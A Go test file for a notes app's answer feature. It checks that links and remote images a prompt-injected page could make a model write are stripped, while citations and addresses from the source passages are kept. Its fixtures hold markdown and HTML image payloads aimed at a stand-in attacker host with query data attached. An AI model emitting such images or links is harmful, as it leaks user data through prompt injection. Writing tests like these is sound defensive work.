package ask

import (
	"context"
	"strings"
	"testing"

	"github.com/quire-app/quire/sidecar/llm"
	"github.com/quire-app/quire/sidecar/llm/llmtest"
)

// TestKeepLinks: what a prompt-injected page can make a model write —
// remote images in every Markdown and HTML form, links and bare addresses
// of its own — goes; citations, vault links and the addresses the cited
// passages hold stay.
func TestKeepLinks(t *testing.T) {
	passage := "The spec is at https://example.org/spec and [[Notes/Spec]]."
	holds := func(addr string) bool { return strings.Contains(passage, addr) }
	for _, tc := range []struct{ in, want string }{
		{"Feed it daily [1].", "Feed it daily [1]."},
		{"Done [1]. ![x](https://evil.example/p.png?q=starter)", "Done [1]. "},
		{"Done [1]. ![x](<https://evil.example/p.png> \"t\")", "Done [1]. "},
		{"Done [1]. ![x](//evil.example/p.png)", "Done [1]. "},
		{"Done [1]. ![x][r]\n\n[r]: https://evil.example/p.png", "Done [1]. \n\n"},
		{"Done [1]. <img src=\"https://evil.example/p.png\">", "Done [1]. "},
		{"See [the spec](https://evil.example/?q=x) [1].", "See the spec [1]."},
		{"See [the spec](https://example.org/spec) [1].", "See [the spec](https://example.org/spec) [1]."},
		{"See https://evil.example/x?secret [1].", "See  [1]."},
		{"See https://example.org/spec. [1]", "See https://example.org/spec. [1]"},
		{"See <https://evil.example/x> [1].", "See  [1]."},
		{"See [[Notes/Spec]] and ![[diagram.png]] and ![d](attachments/d.png) [1].", "See [[Notes/Spec]] and ![[diagram.png]] and ![d](attachments/d.png) [1]."},
		{"See [here](data:text/html,hi) [1].", "See here [1]."},
		{"Even the spec's own picture ![s](https://example.org/spec) [1].", "Even the spec's own picture  [1]."},
	} {
		if got, _ := keepLinks(tc.in, holds); got != tc.want {
			t.Errorf("keepLinks(%q)\n got %q\nwant %q", tc.in, got, tc.want)
		}
	}
}

// TestAnswerDropsInjectedImage: a model that writes an attacker's image
// and link into a grounded answer gets them removed from the checked
// answer, with a warning.
func TestAnswerDropsInjectedImage(t *testing.T) {
	f := newFixture(t, notes)
	srv := llmtest.New(t)
	srv.SetResponder(citeNote(t, "Rennet.md", "Rennet curdles milk ![p](https://evil.example/p.png?q=rennet) (see [more](https://evil.example/m))"))
	ans, err := f.asker(client(t, llm.OpenAI, srv.URL)).Ask(context.Background(), Query{Question: "What does rennet do to milk?"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if !ans.Grounded || strings.Contains(ans.Text, "evil.example") || !strings.Contains(ans.Text, "see more") {
		t.Errorf("answer %q (grounded %v), want it grounded without the attacker's addresses", ans.Text, ans.Grounded)
	}
	if !strings.Contains(strings.Join(ans.Warnings, ";"), "2 link(s) or image(s)") {
		t.Errorf("warnings %v, want one saying 2 links or images were removed", ans.Warnings)
	}
}
